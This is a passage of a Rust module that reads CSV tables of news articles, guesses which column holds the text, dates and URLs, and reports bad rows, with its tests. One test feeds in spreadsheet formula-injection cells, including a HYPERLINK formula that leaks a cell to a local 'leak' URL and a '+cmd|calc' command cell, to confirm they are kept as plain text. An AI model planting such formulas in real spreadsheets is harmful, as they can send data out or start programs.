//! Tables: a record a row, with a mapping of columns that is guessed, shown, and the user's to change.
//!
//! Cells are split as most programs do it (RFC 4180, and what is not in it as the crate `csv` does, which the tests
//! ask). The splitting is our own since that crate does not tell a quotation mark that is never closed, from which on
//! a file would be one cell. Only the row that is being read is kept, and the beginning, on which the guesses rest.
use crate::{Columns, Found, Limits, Look, Trouble};
use corpus::{RecordField, draft_of_record, record_field};
use serde_json::{Map, Value};

/// Bytes at the beginning on which separator, head and columns are guessed.
const SAMPLE: usize = 64 << 10;
/// Rows of them.
const SAMPLE_ROWS: usize = 40;
/// Rows that are shown, characters of a cell and cells of a row.
const SHOWN_ROWS: usize = 5;
const SHOWN_CHARS: usize = 80;
const SHOWN_CELLS: usize = 200;
/// Characters that the cells of a column have on average to be taken for texts without a name that says so.
const TEXT_CHARS: usize = 120;
/// Rows that are told one by one when they cannot be read; the others are counted.
const TOLD: u32 = 100;

/// Where in a cell the scan is.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Place {
    /// Before its first character.
    #[default]
    Before,
    /// In a cell without quotation marks, or after them.
    Bare,
    /// Between quotation marks.
    Quoted,
    /// After a mark that ends the cell, or is the first of two.
    Marked,
}

impl Place {
    /// What follows `byte`, which does not end the row.
    fn next(self, byte: u8, separator: u8) -> Self {
        match self {
            Self::Quoted if byte == b'"' => Self::Marked,
            Self::Quoted => Self::Quoted,
            Self::Marked if byte == b'"' => Self::Quoted,
            Self::Before if byte == b'"' => Self::Quoted,
            _ if byte == separator => Self::Before,
            _ => Self::Bare,
        }
    }
}

/// Walks over the bytes of a table and knows its lines.
#[derive(Clone, Copy, Debug, Default)]
struct Scan {
    /// The next byte.
    at: usize,
    place: Place,
    /// Lines that ended before it.
    lines: u32,
    /// Whether the byte before was a carriage return.
    returned: bool,
    /// The last mark that opened a cell: its byte, and the lines that ended before it.
    mark: (usize, u32),
}

impl Scan {
    /// Goes on to the end of the row: the byte where it ends, or `None` where the text or `most` bytes of it are
    /// over before.
    fn row(&mut self, text: &[u8], most: usize, separator: u8) -> Option<usize> {
        while let Some(&byte) = text.get(self.at).filter(|_| self.at < most) {
            self.at += 1;
            let is_end = matches!(byte, b'\n' | b'\r');
            if is_end && !(byte == b'\n' && self.returned) {
                self.lines += 1;
            }
            self.returned = byte == b'\r';
            if is_end && self.place != Place::Quoted {
                self.place = Place::Before;
                return Some(self.at - 1);
            }
            let next = self.place.next(byte, separator);
            if self.place == Place::Before && next == Place::Quoted {
                self.mark = (self.at - 1, self.lines);
            }
            self.place = next;
        }
        None
    }
}

/// The cells of a row as they are written.
struct Cells<'a> {
    rest: Option<&'a str>,
    separator: u8,
}

impl<'a> Iterator for Cells<'a> {
    type Item = &'a str;

    fn next(&mut self) -> Option<&'a str> {
        let rest = self.rest?;
        let mut place = Place::Before;
        for (at, byte) in rest.bytes().enumerate() {
            let next = place.next(byte, self.separator);
            if next == Place::Before {
                self.rest = rest.get(at + 1..);
                return rest.get(..at);
            }
            place = next;
        }
        self.rest = None;
        Some(rest)
    }
}

fn cells(row: &str, separator: u8) -> Cells<'_> {
    Cells { rest: Some(row), separator }
}

/// What a cell says.
fn said(cell: &str) -> String {
    if !cell.starts_with('"') {
        return cell.to_owned();
    }
    let mut text = String::with_capacity(cell.len());
    let mut place = Place::Before;
    for letter in cell.chars() {
        // A line feed after the marks would have ended the row: it separates nothing here.
        let next = place.next(u8::try_from(letter).unwrap_or(b'x'), b'\n');
        if !matches!((place, next), (Place::Before, Place::Quoted) | (Place::Quoted, Place::Marked)) {
            text.push(letter);
        }
        place = next;
    }
    text
}

/// The rows of the beginning, cut into cells.
fn sample(text: &str, separator: u8, whole: bool) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut scan = Scan::default();
    while rows.len() < SAMPLE_ROWS {
        let from = scan.at;
        let end = scan.row(text.as_bytes(), text.len(), separator);
        // A row that goes on beyond the beginning says something only where it is alone.
        if end.is_none() && !whole && rows.len() > 1 {
            break;
        }
        let row = text.get(from..end.unwrap_or(text.len())).unwrap_or_default();
        if !row.is_empty() {
            rows.push(cells(row, separator).map(said).collect());
        }
        if end.is_none() {
            break;
        }
    }
    rows
}

/// The separator with which most rows have as many cells as the first, more than one, and of those the one with the
/// most.
fn separator(text: &str, whole: bool) -> u8 {
    let mut best = ((false, 0, 0), b',');
    for candidate in [b',', b';', b'\t', b'|'] {
        let rows = sample(text, candidate, whole);
        let width = rows.first().map_or(0, Vec::len);
        let alike = rows.iter().filter(|row| row.len() == width).count();
        let fit = (width > 1, alike, width);
        if fit > best.0 {
            best = (fit, candidate);
        }
    }
    best.1
}

/// What a name says that its column holds, as the fields of records are named: “Full Text” is `full_text`.
fn role(name: &str) -> Option<RecordField> {
    let words: Vec<&str> = name.split(|c: char| !c.is_alphanumeric()).filter(|word| !word.is_empty()).collect();
    record_field(&words.join("_")).or_else(|| record_field(&words.concat()))
}

/// The columns whose names say that they hold this.
fn named(head: &[String], what: RecordField) -> Vec<usize> {
    (0..head.len()).filter(|column| head.get(*column).is_some_and(|name| role(name) == Some(what))).collect()
}

fn is_address(cell: &str) -> bool {
    cell.starts_with("http://") || cell.starts_with("https://")
}

/// Asks the one reader of dates.
fn is_date(cell: &str) -> bool {
    let mut record = Map::new();
    record.insert("text".to_owned(), Value::String(String::new()));
    record.insert("published".to_owned(), Value::String(cell.to_owned()));
    cell.len() < 60 && draft_of_record(Value::Object(record), "").is_ok_and(|d| d.given.published.is_some())
}

/// The column, of those without a role, whose cells are what `is` asks for, but for one in five.
fn alike(rows: &[Vec<String>], taken: &[Option<u32>], is: fn(&str) -> bool) -> Option<u32> {
    let width = rows.first().map_or(0, Vec::len);
    let fits = |column: &usize| {
        let cells = || rows.iter().filter_map(|row| row.get(*column)).map(|c| c.trim()).filter(|c| !c.is_empty());
        let all = cells().count();
        !taken.contains(&index(*column)) && all > 0 && cells().filter(|c| is(c)).count() * 5 >= all * 4
    };
    (0..width).find(fits).and_then(index)
}

fn index(column: usize) -> Option<u32> {
    u32::try_from(column).ok()
}

/// Characters that the cells of a column have on average.
fn average(rows: &[Vec<String>], column: usize) -> usize {
    let all: usize = rows.iter().filter_map(|row| row.get(column)).map(|cell| cell.chars().count()).sum();
    all / rows.len().max(1)
}

/// The one of these columns that has long cells, at least twice as long as those of any other.
fn longest(rows: &[Vec<String>], columns: &[usize]) -> Option<u32> {
    let mut lengths: Vec<(usize, usize)> = columns.iter().map(|c| (average(rows, *c), *c)).collect();
    let best = lengths.iter().copied().max()?;
    lengths.retain(|l| *l != best);
    let next = lengths.iter().map(|l| l.0).max().unwrap_or(0);
    if best.0 >= TEXT_CHARS && best.0 >= next * 2 { index(best.1) } else { None }
}

/// What the columns hold: by their names, and by what is in them where there is no name.
fn guess(rows: &[Vec<String>], separator: u8) -> Columns {
    let first = rows.first().map_or(&[][..], Vec::as_slice);
    let rest = rows.get(1..).unwrap_or_default();
    // Without a known name, a head is short words over other things.
    let is_label = |cell: &String| {
        let cell = cell.trim();
        cell.len() < 60 && cell.chars().any(char::is_alphabetic) && !is_address(cell) && !is_date(cell)
    };
    let is_other = |cell: &String| !cell.trim().is_empty() && !is_label(cell);
    let header = first.iter().any(|name| role(name).is_some())
        || first.iter().all(is_label) && rest.iter().flatten().any(is_other);
    let data = if header { rest } else { rows };
    let by_name = |what| if header { named(first, what) } else { Vec::new() };
    let one = |what| by_name(what).first().copied().and_then(index);
    let mut columns = Columns {
        separator,
        header,
        text: None,
        headline: one(RecordField::Headline),
        outlet: one(RecordField::Outlet),
        published: one(RecordField::Published),
        id: one(RecordField::Id),
        address: one(RecordField::Address),
    };
    let taken = |c: &Columns| [c.text, c.headline, c.outlet, c.published, c.id, c.address];
    if columns.published.is_none() {
        columns.published = alike(data, &taken(&columns), is_date);
    }
    if columns.address.is_none() {
        columns.address = alike(data, &taken(&columns), is_address);
    }
    let mut texts = by_name(RecordField::Text);
    if texts.is_empty() {
        texts = (0..data.first().map_or(0, Vec::len)).filter(|c| !taken(&columns).contains(&index(*c))).collect();
        columns.text = longest(data, &texts);
    } else if let [one] = texts.as_slice() {
        columns.text = index(*one);
    } else {
        columns.text = longest(data, &texts);
    }
    columns
}

/// From `from` to `to` or the end, but no part of a character.
fn cut(text: &str, from: usize, to: usize) -> &str {
    let mut to = to.min(text.len());
    while !text.is_char_boundary(to) {
        to -= 1;
    }
    text.get(from..to).unwrap_or_default()
}

/// What to say where no column is the text.
fn which_text(columns: &Columns, head: &[String], look: &mut Look) -> Trouble {
    let named = named(head, RecordField::Text).len();
    if columns.header && columns.address.is_some() && named == 0 {
        let remark = "This is a list of articles without their texts, as Media Cloud and search services give it.";
        look.remarks.push(remark.to_owned());
        let names: Vec<&str> = head.iter().take(8).map(|name| cut(name, 0, SHOWN_CHARS)).collect();
        let message =
            format!("expected a column with the articles’ texts, found a list without them: {}", names.join(", "));
        return Trouble::of_file(message, "add the texts in a column “text”, or say which column holds them");
    }
    let found = if named > 1 { format!("{named} of that name") } else { "none that is sure to be it".to_owned() };
    let message = format!("which column holds the text? Expected one, found {found}");
    Trouble::of_file(message, "say which column holds the text, then the table is read")
}

/// A row as it is shown for the mapping.
fn shown(row: &[String]) -> Vec<String> {
    let cut = |cell: &String| match cell.char_indices().nth(SHOWN_CHARS) {
        Some((at, _)) => cell.get(..at).unwrap_or_default().to_owned(),
        None => cell.clone(),
    };
    row.iter().take(SHOWN_CELLS).map(cut).collect()
}

/// Reads a table as far as it has come.
#[derive(Debug, Default)]
pub(crate) struct TableReader {
    columns: Option<Columns>,
    /// Bytes of a row.
    most: usize,
    state: State,
    /// What is not read yet, and how far its first row is scanned.
    rest: String,
    scan: Scan,
    /// Lines before `rest`.
    lines: u32,
    /// Cells that a row has: at least, and at most but for empty ones.
    width: (usize, usize),
    /// Rows that were read below the head.
    rows: u32,
    /// Rows that could not be read.
    bad: u32,
}

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum State {
    /// The columns are not known yet.
    #[default]
    Beginning,
    /// The row that names the columns comes.
    Head,
    /// Rows come.
    Rows,
    /// A row goes on that is too large.
    Skipping,
    /// Nothing can be read.
    Over,
}

impl TableReader {
    /// With the user's mapping, where there is one; a row has at most twice the bytes of an article.
    pub(crate) fn new(choice: Option<Columns>, limits: &Limits) -> Self {
        let most = usize::try_from(limits.article.saturating_mul(2)).unwrap_or(usize::MAX);
        Self { columns: choice, most, ..Self::default() }
    }

    /// Takes the next piece of decoded text; `last` ends the table. Says in `look` what the columns are taken for.
    pub(crate) fn take(&mut self, piece: &str, last: bool, id: &str, look: &mut Look, found: &mut Vec<Found>) {
        if self.state != State::Over {
            self.rest.push_str(piece);
        }
        if self.state == State::Beginning && (last || self.rest.len() > SAMPLE) {
            self.begin(look, found);
        }
        if self.state != State::Beginning {
            self.read(last, id, found);
        }
    }

    /// Finds out what the columns hold.
    fn begin(&mut self, look: &mut Look, found: &mut Vec<Found>) {
        let whole = self.rest.len() <= SAMPLE;
        let mut begins = cut(&self.rest, 0, SAMPLE);
        // Some programs say the separator in a line of its own.
        let said = begins.strip_prefix("sep=").filter(|s| s.get(1..).is_some_and(|r| r.starts_with(['\n', '\r'])));
        let told = said.and_then(|s| s.bytes().next());
        if told.is_some() {
            begins = begins.get(5..).unwrap_or_default();
        }
        let chosen = self.columns.as_ref().map(|c| c.separator).filter(|s| b" \t,;|:^~".contains(s));
        let separator = chosen.or(told).unwrap_or_else(|| separator(begins, whole));
        let rows = sample(begins, separator, whole);
        let columns = match &self.columns {
            Some(chosen) => Columns { separator, ..chosen.clone() },
            None => guess(&rows, separator),
        };
        let first = rows.first().map_or(&[][..], Vec::as_slice);
        let full = first.iter().rposition(|cell| !cell.trim().is_empty()).map_or(0, |last| last + 1);
        self.width = (full.max(1), first.len());
        look.rows = rows.iter().take(SHOWN_ROWS).map(|row| shown(row)).collect();
        if told.is_some() {
            self.rest.drain(..5);
        }
        let heads = usize::from(columns.header);
        let is_text = columns.text.is_some_and(|text| (text as usize) < first.len());
        self.state = if columns.header { State::Head } else { State::Rows };
        if rows.len() <= heads {
            found.push(Found::Trouble(Trouble::of_file(
                "expected rows of articles, found none",
                "give the table a row for each article",
            )));
            self.state = State::Over;
        } else if !is_text {
            found.push(Found::Trouble(which_text(&columns, first, look)));
            self.state = State::Over;
        }
        look.columns = Some(columns.clone());
        self.columns = Some(columns);
    }

    /// Reads all rows that have come whole.
    fn read(&mut self, last: bool, id: &str, found: &mut Vec<Found>) {
        let rest = std::mem::take(&mut self.rest);
        let separator = self.columns.as_ref().map_or(b',', |c| c.separator);
        let mut from = 0_usize;
        while self.state != State::Over {
            let line = self.lines;
            let most = if self.state == State::Skipping { rest.len() } else { from.saturating_add(self.most) };
            // One byte more may be the end of the row.
            let end = self.scan.row(rest.as_bytes(), most.saturating_add(1), separator);
            if end.is_none() && self.scan.at > most {
                let message = format!("expected a row of at most {} MB, found a larger one", self.most >> 20);
                self.tell(line + 1, message, "look for a quotation mark that is not closed, or divide the text", found);
                match self.after_mark(cut(&rest, from, most), separator) {
                    Some((bytes, lines)) => from = self.go_on(from + bytes, lines),
                    None => self.state = State::Skipping,
                }
                continue;
            }
            let Some(end) = end else {
                if last && self.scan.place == Place::Quoted && self.state != State::Skipping {
                    let mark = self.scan.mark.1 + 1;
                    let message =
                        "expected the end of the quotation mark that opens a cell here, found the table's end";
                    self.tell(mark, message.to_owned(), "close it, or double it where it belongs to the text", found);
                    if let Some((bytes, lines)) = self.after_mark(rest.get(from..).unwrap_or_default(), separator) {
                        from = self.go_on(from + bytes, lines);
                        continue;
                    }
                } else if last {
                    self.row(rest.get(from..).unwrap_or_default(), line, id, found);
                }
                break;
            };
            self.row(rest.get(from..end).unwrap_or_default(), line, id, found);
            from = self.scan.at;
            self.lines = self.scan.lines;
        }
        if last && self.bad > TOLD {
            let message = format!("{} more rows could not be read", self.bad - TOLD);
            found.push(Found::Trouble(Trouble::of_file(message, "look at the first of them above")));
        }
        if last {
            self.state = State::Over;
        } else if self.state == State::Skipping {
            from = rest.len();
        }
        if self.state == State::Over {
            return;
        }
        self.rest = rest;
        self.rest.drain(..from);
        self.scan.at -= from;
    }

    /// Reads one row, which begins after `lines` lines.
    fn row(&mut self, row: &str, lines: u32, id: &str, found: &mut Vec<Found>) {
        let Some(columns) = &self.columns else { return };
        if self.state == State::Skipping || self.state == State::Head && !row.is_empty() {
            self.state = State::Rows;
            return;
        }
        let roles = [
            ("text", columns.text),
            ("headline", columns.headline),
            ("outlet", columns.outlet),
            ("published", columns.published),
            ("id", columns.id),
            ("url", columns.address),
        ];
        let (mut count, mut filled) = (0, 0);
        let mut record = Map::new();
        for cell in cells(row, columns.separator) {
            for (key, column) in roles {
                // What is not given is no field of the record.
                if column.is_some_and(|c| c as usize == count) && !is_blank(cell) {
                    let cell = said(cell);
                    let cell = if key == "text" { cell } else { cell.trim().to_owned() };
                    record.insert(key.to_owned(), Value::String(cell));
                }
            }
            count += 1;
            if !is_blank(cell) {
                filled = count;
            }
        }
        if filled == 0 {
            return;
        }
        self.rows += 1;
        let (least, most) = self.width;
        if count < least || filled > most {
            let (found_cells, hint) = if count < least {
                (count, "add what is missing; a separator needs to stand even beside an empty cell")
            } else {
                (filled, "put a cell that holds the separator between quotation marks")
            };
            self.tell(lines + 1, format!("expected {most} cells, found {found_cells}"), hint, found);
            return;
        }
        let text = record.get("text").and_then(Value::as_str).unwrap_or_default();
        if text.len() > self.most / 2 || !text.chars().any(char::is_alphanumeric) {
            let sort = match text.len() {
                0 => "an empty cell".to_owned(),
                bytes if bytes > self.most / 2 => format!("{} MB", bytes >> 20),
                _ => "one without words".to_owned(),
            };
            let message =
                format!("expected the article’s text in column {}, found {sort}", columns.text.unwrap_or(0) + 1);
            let hint = format!("give a text of at most {} MB, or leave the row out", self.most >> 21);
            self.tell(lines + 1, message, &hint, found);
            return;
        }
        match draft_of_record(Value::Object(record), &format!("{id}-{}", self.rows)) {
            Ok(draft) => found.push(Found::Draft(Box::new(draft))),
            Err(error) => self.tell(lines + 1, error.message, "correct the row", found),
        }
    }

    /// Tells a trouble of the row in `line`, or only counts it.
    fn tell(&mut self, line: u32, message: String, hint: &str, found: &mut Vec<Found>) {
        self.bad += 1;
        if self.bad <= TOLD {
            found.push(Found::Trouble(Trouble { line, ..Trouble::of_file(message, hint) }));
        }
    }

    /// Where to go on in a row that ends in an open quotation mark, as bytes and lines after its beginning: in the
    /// line after that mark, if what follows looks like rows of this table rather than like the rest of a text.
    fn after_mark(&self, row: &str, separator: u8) -> Option<(usize, u32)> {
        let mut scan = Scan::default();
        if scan.row(row.as_bytes(), row.len(), separator).is_some() || scan.place != Place::Quoted {
            return None;
        }
        let (mark, lines) = scan.mark;
        let line = row.get(mark..)?.find(['\n', '\r'])? + mark;
        let next = line + if row.get(line..)?.starts_with("\r\n") { 2 } else { 1 };
        let rest = row.get(next..)?;
        let (mut rows, mut fitting, mut at) = (0, 0, 0);
        let mut scan = Scan::default();
        while at < rest.len() {
            let end = scan.row(rest.as_bytes(), rest.len(), separator).unwrap_or(rest.len());
            let row = rest.get(at..end)?;
            at = scan.at;
            if !row.is_empty() {
                rows += 1;
                fitting += usize::from(cells(row, separator).count() == self.width.1);
            }
        }
        let signs = fitting * self.width.1.saturating_sub(1);
        (signs >= 2 && fitting * 10 >= rows * 9).then_some((next, lines + 1))
    }

    /// Goes on at a byte, so many lines after the beginning of the row that was given up.
    fn go_on(&mut self, at: usize, lines: u32) -> usize {
        self.lines += lines;
        self.scan = Scan { at, lines: self.lines, ..Scan::default() };
        at
    }
}

/// Whether nothing is in a cell.
fn is_blank(cell: &str) -> bool {
    let cell = cell.trim();
    cell.is_empty() || cell == "\"\""
}

#[cfg(test)]
mod tests {
    use super::*;
    use corpus::Draft;
    use proptest::prelude::*;

    struct Read {
        drafts: Vec<Draft>,
        /// Line and message.
        troubles: Vec<(u32, String)>,
        look: Look,
    }

    fn in_pieces(pieces: &[&str], choice: Option<Columns>, limits: &Limits) -> Read {
        let (mut reader, mut look, mut found) = (TableReader::new(choice, limits), Look::default(), Vec::new());
        for (at, piece) in pieces.iter().enumerate() {
            reader.take(piece, at + 1 == pieces.len(), "f", &mut look, &mut found);
        }
        let (mut drafts, mut troubles) = (Vec::new(), Vec::new());
        for one in found {
            match one {
                Found::Draft(draft) => drafts.push(*draft),
                Found::Trouble(trouble) => {
                    assert!(!trouble.hint.is_empty());
                    troubles.push((trouble.line, trouble.message));
                }
            }
        }
        Read { drafts, troubles, look }
    }

    fn read(table: &str) -> Read {
        in_pieces(&[table], None, &Limits::default())
    }

    fn texts(read: &Read) -> Vec<&str> {
        read.drafts.iter().map(|d| d.text.as_str()).collect()
    }

    fn lines(read: &Read) -> Vec<u32> {
        read.troubles.iter().map(|t| t.0).collect()
    }

    const LONG: &str = "The river rose for the third day in a row on Monday, and the people of the lower town left their \
                        houses for the school on the hill.";

    #[test]
    fn a_row_is_an_article() {
        let read = read(
            "id,Title,Full Text,Media_Name,Publish Date,url,words\n\
             7,Floods,\"It \"\"rained\"\", she said.\nAll day.\",The Gull,\"Nov. 3, 2024\",https://g.example/1,5\n\
             ,Snow,It snowed.,,soon,javascript:1,2\n,,,,,,\n",
        );
        assert!(read.troubles.is_empty(), "{:?}", read.troubles);
        let [flood, snow] = read.drafts.as_slice() else { panic!() };
        assert_eq!((flood.id.as_str(), flood.text.as_str()), ("7", "It \"rained\", she said.\nAll day."));
        let outlet = flood.given.outlet.as_ref().unwrap();
        assert_eq!((outlet.name.as_str(), outlet.url.as_deref()), ("The Gull", Some("https://g.example/1")));
        assert_eq!(flood.given.published.unwrap().to_string(), "2024-11-03");
        assert_eq!(flood.given.headline.as_deref(), Some("Floods"));
        assert_eq!((snow.id.as_str(), snow.given.outlet.is_none(), snow.notices.len()), ("f-2", true, 1));
        let columns = read.look.columns.unwrap();
        assert_eq!((columns.separator, columns.header, columns.text, columns.id), (b',', true, Some(2), Some(0)));
        assert_eq!((read.look.rows.len(), read.look.rows[0][2].as_str()), (4, "Full Text"));
    }

    #[test]
    fn the_bad_inputs() {
        let formula = read(
            "title,text\n=1+1,\"=HYPERLINK(\"\"http://127.0.0.1:9/leak?\"\"&A1,\"\"x\"\")\"\n+cmd|calc,-2+3\n@SUM(A1),\t=1\n",
        );
        assert_eq!(texts(&formula), ["=HYPERLINK(\"http://127.0.0.1:9/leak?\"&A1,\"x\")", "-2+3", "\t=1"]);
        let ragged = read("title,text,url\na\nb,c\nd,e,f,g\n\"unclosed,quote\nx,y,z\n");
        assert_eq!((texts(&ragged), lines(&ragged)), (vec!["y"], vec![2, 3, 4, 5]));
        assert!(ragged.troubles[2].1.contains("expected 3 cells, found 4"));
        let semicolons = read("title;text;publish_date\nA;\"x;y\";2025-11-24\n");
        assert_eq!(texts(&semicolons), ["x;y"]);
        assert_eq!(semicolons.drafts[0].given.published.unwrap().to_string(), "2025-11-24");
        for unclear in ["text,text,TEXT\na,b,c\n", "foo,bar\n1,2\n"] {
            let read = read(unclear);
            assert!(read.drafts.is_empty() && read.troubles.len() == 1);
            assert!(read.troubles[0].1.contains("which column holds the text?"));
            assert_eq!((read.look.rows.len(), read.look.columns.as_ref().unwrap().text), (2, None));
            let choice = Columns { text: Some(1), ..read.look.columns.unwrap() };
            let chosen = in_pieces(&[unclear], Some(choice), &Limits::default());
            assert_eq!(texts(&chosen), [if unclear.starts_with('t') { "b" } else { "2" }]);
        }
        let quotes = read("title,text\n\"a \"\"b\"\"\",\"line1\nline2\r\nline3\"\n");
        assert_eq!(texts(&quotes), ["line1\nline2\r\nline3"]);
        assert_eq!(quotes.drafts[0].given.headline.as_deref(), Some("a \"b\""));
        let huge = read(&format!("title,text\nx,\"{}\"\n", "y".repeat(3_000_000)));
        assert_eq!((huge.drafts[0].text.len(), huge.look.rows[1][1].len()), (3_000_000, SHOWN_CHARS));
    }

    #[test]
    fn separators_and_heads_are_told() {
        let told = |table: &str| {
            let columns = read(table).look.columns.unwrap();
            (columns.separator, columns.header, columns.text)
        };
        assert_eq!(told("text\tdate\nRain, snow; hail|fog\t2024-01-02\n"), (b'\t', true, Some(0)));
        assert_eq!(told("date|body\n2024-01-02|a, b; c\n"), (b'|', true, Some(1)));
        assert_eq!(told("text\nOne, two, three\nFour\n"), (b';', true, Some(0)));
        assert_eq!(told("sep=;\ntext;date,time\nOne;2\n"), (b';', true, Some(0)));
        assert_eq!(told(&format!("\"a;b;c\",\"{LONG}\",2024-01-02\n")), (b',', false, Some(1)));
        assert_eq!(told(&format!("wann,wo,was\n2024-01-02,x,\"{LONG}\"\n")), (b',', true, Some(2)));
    }

    #[test]
    fn columns_without_names_are_told_by_what_is_in_them() {
        let row = |n: u32| format!("Floods {n};\"{LONG}\";https://g.example/{n};{n} May 2024\r\n");
        let table: String = (1..9).map(row).collect();
        let read = read(&table);
        let columns = read.look.columns.clone().unwrap();
        assert!(!columns.header);
        assert_eq!((columns.text, columns.address, columns.published), (Some(1), Some(2), Some(3)));
        assert_eq!((read.drafts.len(), read.drafts[7].id.as_str(), read.look.rows.len()), (8, "f-8", 5));
        assert_eq!(read.drafts[7].given.published.unwrap().to_string(), "2024-05-08");
    }

    #[test]
    fn a_list_without_texts_is_told() {
        let list =
            read("stories_id,url,title,publish_date,media_name\n1,https://g.example/1,Floods,2024-01-02,The Gull\n");
        assert!(list.drafts.is_empty() && list.troubles.len() == 1 && list.look.remarks.len() == 1);
        assert!(list.troubles[0].1.contains("a list without them: stories_id, url, title"), "{:?}", list.troubles);
        assert_eq!(read("title,text\n").troubles[0].1, "expected rows of articles, found none");
        assert_eq!(read(" \n").drafts.len() + read("").drafts.len(), 0);
    }

    #[test]
    fn rows_that_cannot_be_read_lose_no_other() {
        let table = "text,date\r\nOne,2024-01-02\r\n,2024-01-02\r\nThree\r\nFour,2024-01-02,,\r\n\r\nSix,\"a\r\nb\",c\r\n\
                     Seven,\r\n";
        let found = read(table);
        assert_eq!((texts(&found), lines(&found)), (vec!["One", "Four", "Seven"], vec![3, 4, 7]));
        // A text that is cut off is no row of the table.
        let cut = read("id,text\n1,One\n2,\"Two, she said.\nThen it rained, all night.\nNothing else");
        assert_eq!((texts(&cut), lines(&cut)), (vec!["One"], vec![3]));
        let many = read(&format!("id,text\n{}9,Last\n", "1\n".repeat(500)));
        assert_eq!((texts(&many), many.troubles.len()), (vec!["Last"], TOLD as usize + 1));
        assert_eq!(many.troubles[TOLD as usize].1, "400 more rows could not be read");
    }

    #[test]
    fn a_row_has_a_most() {
        let limits = Limits { article: 1000, ..Limits::default() };
        let long = "y".repeat(1500);
        let longer = "z\n".repeat(1500);
        let table = format!("id,text\n1,One\n2,{long}\n3,\"{longer}\"\n4,Four\n5,\"open\n6,Six\n7,Seven\n");
        let whole = in_pieces(&[&table], None, &limits);
        assert_eq!((texts(&whole), lines(&whole)), (vec!["One", "Four", "Six", "Seven"], vec![3, 4, 1506]));
        // The same byte by byte, and nothing is kept but the row.
        let pieces: Vec<&str> = (0..table.len()).filter_map(|at| table.get(at..=at)).collect();
        let cut = in_pieces(&pieces, None, &limits);
        assert_eq!((cut.drafts, cut.troubles), (whole.drafts, whole.troubles));
        let mut reader = TableReader::new(Some(Columns { header: true, text: Some(1), ..Columns::default() }), &limits);
        let mut found = Vec::new();
        reader.take("id,text\n1,\"", false, "f", &mut Look::default(), &mut found);
        for _ in 0..2000 {
            reader.take(&long, false, "f", &mut Look::default(), &mut found);
            assert!(reader.rest.len() <= SAMPLE + 2 * long.len());
        }
        // An open mark in the middle of many rows costs the row it stands in.
        let rows: String = (0..3000).map(|n| format!("{n},{}Row {n}\n", if n == 500 { "\"" } else { "" })).collect();
        let open = in_pieces(&[&format!("id,text\n{rows}")], None, &limits);
        assert_eq!((open.drafts.len(), lines(&open)), (2999, vec![502]));
    }

    #[test]
    fn a_table_in_pieces_is_the_table() {
        let row = |n: u32| format!("{n},\"{LONG} “{n}”\nIt stopped.\",\"{}\r\n", if n == 999 { "" } else { "x\"" });
        let table = format!("id,text,more\n{}", (0..1000).map(row).collect::<String>());
        let whole = read(&table);
        assert_eq!((whole.drafts.len(), lines(&whole), whole.look.rows.len()), (999, vec![2001], 5));
        for size in [1, 7, 1000, SAMPLE, SAMPLE + 1] {
            let mut pieces = Vec::new();
            let mut rest = table.as_str();
            while !rest.is_empty() {
                let (piece, more) = rest.split_at(rest.ceil_char_boundary(size.min(rest.len())));
                pieces.push(piece);
                rest = more;
            }
            let cut = in_pieces(&pieces, None, &Limits::default());
            assert!((&cut.drafts, &cut.troubles, &cut.look) == (&whole.drafts, &whole.troubles, &whole.look));
        }
    }

    #[test]
    fn time_is_linear() {
        // Each of these would take minutes if a step were quadratic.
        for piece in ["1,a\n", ",", "\n", "\"", "\"\n", "\"a\"\"\n", "1,\"\"\"a\n", "\r", "a\n\"\n", "é;|\t"] {
            let table = format!("id,text\n{}", piece.repeat(400_000 / piece.len()));
            let limits = Limits { article: 5000, ..Limits::default() };
            let (few, many) = (in_pieces(&[&table], None, &limits), read(&table));
            assert!(few.troubles.len() <= TOLD as usize + 2 && many.troubles.len() <= TOLD as usize + 2);
        }
    }

    /// The cells of a table as the common reader gives them.
    fn common(table: &str, separator: u8) -> Vec<Vec<String>> {
        let mut reader = csv_core::ReaderBuilder::new().delimiter(separator).build();
        let (mut rest, mut rows) = (table.as_bytes(), Vec::new());
        let (mut output, mut ends) = (vec![0; table.len() + 1], vec![0; table.len() + 2]);
        loop {
            let (result, read, written, count) = {
                let (result, read, written, count) = reader.read_record(rest, &mut output, &mut ends);
                if matches!(result, csv_core::ReadRecordResult::InputEmpty) {
                    // The end of the table is an empty piece, which goes on with the same row.
                    let (result, _, more, ended) = reader.read_record(&[], &mut output[written..], &mut ends[count..]);
                    rest = &[];
                    (result, 0, written + more, count + ended)
                } else {
                    (result, read, written, count)
                }
            };
            rest = &rest[read..];
            if !matches!(result, csv_core::ReadRecordResult::Record) {
                return rows;
            }
            let mut from = 0;
            let cell = |end: &usize| {
                let text = String::from_utf8(output[from..*end].to_vec()).unwrap();
                from = *end;
                text
            };
            rows.push(ends[..count].iter().map(cell).collect());
            let _ = written;
        }
    }

    fn ours(table: &str, separator: u8) -> Vec<Vec<String>> {
        let (mut scan, mut rows) = (Scan::default(), Vec::new());
        loop {
            let from = scan.at;
            let end = scan.row(table.as_bytes(), table.len(), separator);
            let row = &table.get(from..end.unwrap_or(table.len())).unwrap();
            if !row.is_empty() {
                rows.push(cells(row, separator).map(said).collect());
            }
            if end.is_none() {
                return rows;
            }
        }
    }

    proptest! {
        #[test]
        fn cells_are_those_of_the_common_reader(table in "[a\",; é\n\r]{0,40}") {
            prop_assert_eq!(ours(&table, b','), common(&table, b','));
            prop_assert_eq!(ours(&table, b';'), common(&table, b';'));
        }

        #[test]
        fn pieces_are_as_good_as_the_whole(
            table in "(text,date\n)?[a\",;|é\t\n\r0]{0,60}",
            cuts in proptest::collection::vec(0..60_usize, 0..6),
            most in 4..40_u64,
        ) {
            let limits = Limits { article: most, ..Limits::default() };
            let mut cuts: Vec<usize> = cuts.into_iter().filter(|c| table.is_char_boundary(*c)).collect();
            cuts.extend([0, table.len()]);
            cuts.sort_unstable();
            let pieces: Vec<&str> = cuts.windows(2).map(|pair| table.get(pair[0]..pair[1]).unwrap()).collect();
            let choice = Columns { separator: b',', header: false, text: Some(0), ..Columns::default() };
            for choice in [None, Some(choice)] {
                let (a, b) = (in_pieces(&[&table], choice.clone(), &limits), in_pieces(&pieces, choice, &limits));
                prop_assert_eq!((a.drafts, a.troubles, a.look), (b.drafts, b.troubles, b.look));
            }
        }

        #[test]
        fn any_text_is_read(table in ".{0,200}", separator: u8, text: u32) {
